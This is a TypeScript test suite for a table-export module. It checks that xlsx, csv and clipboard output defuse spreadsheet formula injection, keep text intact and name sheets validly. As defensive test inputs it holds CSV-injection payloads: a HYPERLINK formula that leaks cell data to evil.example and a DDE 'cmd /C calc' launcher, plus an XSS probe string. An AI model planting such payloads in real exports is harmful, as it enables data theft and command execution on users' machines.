import { afterEach, describe, expect, it, vi } from 'vitest';
import { read, utils } from 'xlsx';
import { tableFormats, tableToTabText } from '../../../src/shared/export/index.ts';
import type { ReportTable } from '../../../src/shared/report/index.ts';

const hostile = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1 555 0100',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
];
const harmless = [
  '<img src=x onerror=alert(1)>',
  '\u202eelgnis\u202c',
  'مرحبا Ada',
  'Zoë O’Connor-Łukasz, "the 2nd"; x',
  'two\nlines',
  '  blanks  ',
  '語 🎓',
  '_x000D_',
  "'quoted",
  'true',
  '007',
  '2026-01-01',
];

const table = (texts: readonly string[], title = 'Names'): ReportTable => ({
  title,
  columns: [
    { heading: 'Name', kind: 'text' },
    { heading: '=Score', kind: 'decimal' },
    { heading: 'Share', kind: 'share' },
  ],
  rows: texts.map((text, index) => [text, index + 0.5, index === 0 ? null : 0.25]),
});

const readBack = (bytes: Uint8Array) => read(bytes, { type: 'array', cellFormula: true });
const firstColumn = (bytes: Uint8Array): unknown[] => {
  const workbook = readBack(bytes);
  const sheet = workbook.Sheets[workbook.SheetNames[0] ?? ''];
  if (sheet === undefined) throw new Error('no sheet');
  return utils
    .sheet_to_json<unknown[]>(sheet, { header: 1, raw: true })
    .slice(1)
    .map((row) => row[0]);
};

describe('xlsx', () => {
  it.each(hostile)('keeps %j as text behind an apostrophe, and holds no formula', (text) => {
    const { bytes } = tableFormats.xlsx.write([table([text])]);
    const sheet = readBack(bytes).Sheets.Names;
    expect(sheet?.A2.t).toBe('s');
    expect(String(sheet?.A2.v).replaceAll('\r', '\n')).toBe(`'${text}`.replaceAll('\r', '\n'));
    expect(Object.values(sheet ?? {}).some((cell) => typeof cell === 'object' && 'f' in cell)).toBe(false);
    expect(sheet?.B1.v).toBe("'=Score");
  });

  it('gives harmless texts back exactly', () => {
    expect(firstColumn(tableFormats.xlsx.write([table(harmless)]).bytes)).toEqual(harmless);
  });

  it('keeps numbers as numbers and empty cells empty', () => {
    const sheet = readBack(tableFormats.xlsx.write([table(['a', 'b'])]).bytes).Sheets.Names;
    expect([sheet?.B2.v, sheet?.B3.v, sheet?.C2, sheet?.C3.v, sheet?.C3.w]).toEqual([
      0.5,
      1.5,
      undefined,
      0.25,
      '25%',
    ]);
  });

  it('cuts what no cell can hold, not inside a character, and says so', () => {
    const long = 'a'.repeat(32_765) + '🎓'.repeat(5);
    const { bytes, notes } = tableFormats.xlsx.write([table([long, 'b'.repeat(32_767)])]);
    const [first, second] = firstColumn(bytes) as string[];
    expect(first).toBe(`${'a'.repeat(32_765)}…`);
    expect(second).toBe('b'.repeat(32_767));
    expect(notes).toEqual([
      'One text is longer than a spreadsheet cell can hold (32,767 characters) and was cut there.',
    ]);
  });

  it('replaces what XML cannot hold', () => {
    expect(firstColumn(tableFormats.xlsx.write([table(['a\u0000b\u001fc\ud800d'])]).bytes)).toEqual([
      'a\ufffdb\ufffdc\ufffdd',
    ]);
  });

  it('gives every sheet a name that Excel accepts', () => {
    const titles = [
      'A/B:C*?[D]\\E',
      'x'.repeat(40),
      'x'.repeat(40),
      'X'.repeat(40),
      '',
      'History',
      "'q'",
      '🎓'.repeat(20),
    ];
    const { bytes } = tableFormats.xlsx.write(titles.map((title) => table(['a'], title)));
    const names = readBack(bytes).SheetNames;
    expect(new Set(names.map((name) => name.toLowerCase())).size).toBe(titles.length);
    for (const name of names) {
      expect(name).toMatch(/^[^[\]:*?/\\]{1,31}$/);
      expect(name).not.toMatch(/^'|'$|^history$/i);
    }
  });
});

const lines = (bytes: Uint8Array): string => new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);

describe('csv', () => {
  it('starts with a byte order mark and ends its lines as RFC 4180 says', () => {
    expect(lines(tableFormats.csv.write([table(['Ann', 'Bo, "B"'])]).bytes)).toBe(
      '\ufeffName,\'=Score,Share\r\nAnn,0.5,\r\n"Bo, ""B""",1.5,0.25\r\n',
    );
  });

  it.each(hostile)('puts an apostrophe before %j', (text) => {
    const workbook = read(tableFormats.csv.write([table([text])]).bytes, { type: 'array', raw: true });
    const cell = workbook.Sheets[workbook.SheetNames[0] ?? '']?.A2;
    expect(cell?.f).toBeUndefined();
    expect(String(cell?.v).charAt(0)).toBe("'");
    expect(String(cell?.v).slice(1).replace(/\r\n?/g, '\n')).toBe(text.replace(/\r\n?/g, '\n'));
  });

  it('gives harmless texts back exactly', () => {
    const workbook = read(tableFormats.csv.write([table(harmless)]).bytes, { type: 'array', raw: true });
    const sheet = workbook.Sheets[workbook.SheetNames[0] ?? ''];
    const column = harmless.map((_, index) => String(sheet?.[`A${index + 2}`]?.v));
    expect(column).toEqual(harmless);
  });

  it('writes several tables under their titles', () => {
    const text = lines(tableFormats.csv.write([table(['a'], 'One'), table(['b'], 'Two')]).bytes);
    expect(text).toBe(
      "\ufeffOne\r\nName,'=Score,Share\r\na,0.5,\r\n\r\nTwo\r\nName,'=Score,Share\r\nb,0.5,\r\n",
    );
  });
});

describe('same input, same bytes', () => {
  afterEach(() => {
    vi.useRealTimers();
  });
  it.each(['xlsx', 'csv'] as const)('%s at different times', (name) => {
    vi.useFakeTimers({ now: new Date('2026-01-01T08:00:00Z') });
    const first = tableFormats[name].write([table([...hostile, ...harmless])]).bytes;
    vi.setSystemTime(new Date('2031-07-08T21:09:10Z'));
    expect(tableFormats[name].write([table([...hostile, ...harmless])]).bytes).toEqual(first);
  });
});

describe('clipboard', () => {
  it('parts cells by tabs and keeps each row on its line', () => {
    expect(tableToTabText(table(['=1+1', 'two\nlines\tand tabs']))).toBe(
      "Name\t'=Score\tShare\n'=1+1\t0.5\t\ntwo lines and tabs\t1.5\t0.25",
    );
  });
});
